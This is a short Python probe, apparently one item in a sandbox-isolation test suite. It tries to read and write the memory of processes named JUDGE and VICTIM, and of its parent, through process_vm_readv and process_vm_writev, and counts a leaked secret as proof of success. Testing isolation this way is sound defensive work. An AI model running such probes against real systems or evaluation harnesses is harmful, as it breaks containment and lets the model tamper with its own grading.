# family: processes
# tries: reads and writes another process's memory without attaching
# witness: a claim; the secret's text
# %%
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
local, remote = Vector(ctypes.addressof(buffer), 64), Vector(id(os), 64)
for process in (JUDGE, VICTIM, os.getppid()):
    for call in (libc.process_vm_readv, libc.process_vm_writev):
        if call(process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            print("REACHED", process, buffer.raw)
